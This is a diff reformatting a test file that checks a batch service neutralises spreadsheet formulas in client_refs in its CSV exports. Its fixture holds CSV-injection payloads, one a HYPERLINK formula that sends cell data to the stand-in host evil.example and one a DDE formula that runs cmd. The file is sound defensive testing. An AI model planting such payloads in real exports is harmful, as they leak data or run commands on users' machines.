@@ -7,7 +7,15 @@ import { manifest, postBatch } from '../helpers/batches.ts';
 import { fetchPath, reviewLink } from '../helpers/reviews.ts';
 
 /** client_refs a spreadsheet would run as formulas, and ordinary ones around them. */
-const FORMULAS = ['=HYPERLINK("https://evil.example/x?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '=cmd|\' /C calc\'!A0'];
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/x?"&A1,"Click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\tTAB',
+  '\rCR',
+  "=cmd|' /C calc'!A0",
+];
 const PLAIN = ['SKU-1', 'a=b', 'x-1'];
 
 describe('formulas in the results CSV', () => {
@@ -18,7 +26,11 @@ describe('formulas in the results CSV', () => {
   beforeAll(async () => {
     // No worker: the manifest lists queued items, which is all these checks need.
     system = await startSystem({ workers: 0 });
-    const items = refs.map((ref, i) => ({ image_url: `https://images.example.com/p/${i}.jpg`, client_ref: ref, metadata: { note: ref } }));
+    const items = refs.map((ref, i) => ({
+      image_url: `https://images.example.com/p/${i}.jpg`,
+      client_ref: ref,
+      metadata: { note: ref },
+    }));
     const created = await postBatch(system, { items });
     expect(created.status).toBe(202);
     batchId = created.body.id;
@@ -38,7 +50,9 @@ describe('formulas in the results CSV', () => {
     expect(csv.status).toBe(200);
     expect(clientRefs(csv.text)).toEqual([...FORMULAS.map((ref) => `'${ref}`), ...PLAIN]);
     // No line of the file starts a cell with a formula character.
-    expect(csv.text.split(/\r\n/).some((line) => line.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell)))).toBe(false);
+    expect(csv.text.split(/\r\n/).some((line) => line.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell)))).toBe(
+      false,
+    );
   });
 
   it('keeps the JSON lines byte for byte', async () => {
@@ -59,7 +73,16 @@ describe('formulas in the results CSV', () => {
 
   it('neutralises client_refs that came in through a CSV manifest', async () => {
     const form = new FormData();
-    form.append('manifest', new Blob(['image_url,client_ref\r\nhttps://images.example.com/q/1.jpg,"=1+2"\r\nhttps://images.example.com/q/2.jpg,@A1\r\n'], { type: 'text/csv' }), 'm.csv');
+    form.append(
+      'manifest',
+      new Blob(
+        [
+          'image_url,client_ref\r\nhttps://images.example.com/q/1.jpg,"=1+2"\r\nhttps://images.example.com/q/2.jpg,@A1\r\n',
+        ],
+        { type: 'text/csv' },
+      ),
+      'm.csv',
+    );
     const created = await postBatch(system, form);
     expect(created.status).toBe(202);
     expect(clientRefs((await manifest(system, created.body.id, 'csv')).text)).toEqual(["'=1+2", "'@A1"]);
